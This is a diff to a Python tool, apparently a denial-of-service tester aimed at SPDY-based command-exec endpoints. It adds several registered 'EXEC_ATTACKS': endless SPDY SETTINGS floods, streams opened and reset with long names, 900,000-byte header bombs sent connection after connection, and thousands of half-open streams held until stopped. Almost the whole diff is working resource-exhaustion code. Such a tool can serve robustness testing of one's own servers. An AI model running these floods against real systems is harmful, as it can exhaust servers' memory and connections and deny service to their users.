@@ -10,6 +10,7 @@ from __future__ import annotations
 import argparse
 import base64
 import contextlib
+import itertools
 import socket
 import ssl
 import struct
@@ -219,18 +220,65 @@ def spdy_pings(target: Target) -> int:
     return send(target, connection, _endless(ping))
 
 
+def spdy_settings(target: Target) -> int:
+    """Send settings of SPDY, short and long ones."""
+    connection, _, _ = _spdy(target)
+    return send(target, connection, _endless(_settings(0) * 50 + _settings(500)))
+
+
 def spdy_openings(target: Target) -> int:
-    """Open and reset streams of SPDY, with headers that unpack to much."""
+    """Open and reset streams of SPDY, each of another kind with a long name."""
     connection, spdy, _ = _spdy(target)
 
     def pieces() -> Iterator[bytes]:
-        while True:
-            stream = spdy.open({"streamtype": "x" * 60_000})
+        for number in itertools.count():
+            stream = spdy.open({"streamtype": f"{number:x>3000}"})
             spdy.reset(stream)
             yield bytes(spdy.output)
             spdy.output.clear()
 
     return send(target, connection, pieces())
+
+
+def spdy_headers(target: Target) -> int:
+    """Open a stream with headers that unpack to much, on connection by connection."""
+    count = 0
+    while not target.stopped.is_set():
+        with contextlib.suppress(OSError):
+            connection, spdy, _ = _spdy(target)
+            spdy.open({"streamtype": "x" * 900_000})
+            connection.sendall(bytes(spdy.output))
+            while connection.recv(_PIECE_BYTES):
+                pass
+            count += 1
+            connection.close()
+    return count
+
+
+def spdy_half_open(target: Target) -> int:
+    """Open as many streams as are taken, and leave them all open."""
+    connection, spdy, _ = _spdy(target)
+    names = (f"{number:x>3000}" for number in range(2_000))
+    opened = (bytes(_opened(spdy, name)) for name in names)
+    return send(target, connection, itertools.chain(opened, _until_stopped(target)))
+
+
+def _opened(spdy: SpdyConnection, name: str) -> bytes:
+    spdy.open({"streamtype": name})
+    opened = bytes(spdy.output)
+    spdy.output.clear()
+    return opened
+
+
+def _until_stopped(target: Target) -> Iterator[bytes]:
+    target.stopped.wait()
+    yield b""
+
+
+def _settings(count: int) -> bytes:
+    entry = struct.pack("!II", 0x01000004, 100)
+    body = struct.pack("!I", count) + entry * count
+    return struct.pack("!II", 0x80030004, len(body)) + body
 
 
 _SIZE = b'{"Width":80,"Height":24}'
@@ -248,7 +296,10 @@ EXEC_ATTACKS: dict[str, Callable[[Target], int]] = {
     "spdy-long-size": _over_spdy("resize", b"1" * 30_000),
     "spdy-unread-stream": _over_spdy("error", b"x" * 30_000),
     "spdy-pings": spdy_pings,
+    "spdy-settings": spdy_settings,
     "spdy-openings": spdy_openings,
+    "spdy-headers": spdy_headers,
+    "spdy-half-open": spdy_half_open,
 }
 """What a client that may run a command sends to it."""
 
